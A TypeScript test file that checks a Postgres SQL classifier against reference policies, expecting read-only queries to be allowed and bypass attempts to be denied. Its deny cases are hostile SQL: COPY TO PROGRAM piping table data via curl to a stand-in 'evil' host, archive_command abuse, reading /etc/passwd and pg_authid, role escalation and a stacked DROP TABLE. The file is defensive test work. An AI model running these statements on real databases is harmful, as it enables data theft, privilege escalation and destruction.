/**
 * The classifier's output against the reference policies (policies/, compiled
 * to WASM): the bypass shapes are decided on what the parser saw.
 */
import assert from 'node:assert/strict';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { buildBundle } from '../../../compiler/build.ts';
import { PolicyEngine } from '../../../core/engine/engine.ts';
import { POLICY_INPUT_VERSION } from '../../../core/policy-contract.ts';
import { classifySql } from '../../../sidecar/postgres/classify.ts';

let dir: string;
const engine = new PolicyEngine();

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'tg-classify-policy-'));
  const out = join(dir, 'bundle.tar.gz');
  await buildBundle({ dir: 'policies', out });
  await engine.load(await readFile(out), out);
});

after(async () => {
  await rm(dir, { recursive: true, force: true });
});

async function decide(sql: string, taskType: string): Promise<{ result: string; reasons: string[] }> {
  const { request } = await classifySql(sql);
  const d = engine.evaluate(
    {
      version: POLICY_INPUT_VERSION,
      identity: { subject: 'alice@example.com', groups: ['dev'], issuer: 'https://idp.example.com', type: 'user' },
      task: { id: 'OPS-2', type: taskType, assignee: 'alice@example.com', reviewer: 'bob@example.com', reviewers: ['bob@example.com'], state: 'open', expires_at: '2099-12-01T00:00:00Z' },
      resource: { protocol: 'postgres', name: 'orders-db', labels: { env: 'prod' } },
      request,
      review: { status: 'none', by: [] },
      session: { id: 's-1', started_at: '2026-06-01T00:00:00Z' },
      now: new Date().toISOString(),
    },
    'postgres',
  );
  return { result: d.result, reasons: d.reasons };
}

describe('classified SQL under the reference policies (task type read-only)', () => {
  const cases: [string, 'allow' | 'deny'][] = [
    ['SELECT c.email, count(*) FROM orders o JOIN customers c ON c.id = o.customer_id GROUP BY 1', 'allow'],
    ['/* DROP TABLE orders */ SELECT 1', 'allow'],
    ["SELECT 'DROP TABLE orders'", 'allow'],
    ['EXPLAIN DELETE FROM orders WHERE id = 1', 'allow'],
    ['WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d', 'deny'],
    ['EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1', 'deny'],
    ['SELECT * FROM orders FOR UPDATE', 'deny'],
    ["COPY orders TO PROGRAM 'curl -d @- http://evil'", 'deny'],
    ["COPY orders TO '/tmp/orders.csv'", 'deny'],
    ['SET ROLE postgres', 'deny'],
    ['SET SESSION AUTHORIZATION postgres', 'deny'],
    ["SELECT pg_catalog.set_config('role', 'postgres', false)", 'deny'],
    ["SELECT pg_read_file('/etc/passwd')", 'deny'],
    ["SELECT * FROM orders WHERE id = (SELECT lo_export(1, '/tmp/x'))", 'deny'],
    ['DO $$ BEGIN DELETE FROM orders; END $$', 'deny'],
    ["ALTER SYSTEM SET archive_command = 'curl evil'", 'deny'],
    ['SELECT 1; DROP TABLE orders', 'deny'],
    ['SELECT * FROM pg_authid', 'deny'],
    ['SELEC * FROM orders', 'deny'],
  ];
  for (const [sql, want] of cases) {
    it(`${want}: ${sql}`, async () => {
      const d = await decide(sql, 'read-only');
      assert.equal(d.result, want, d.reasons.join('; '));
    });
  }
});
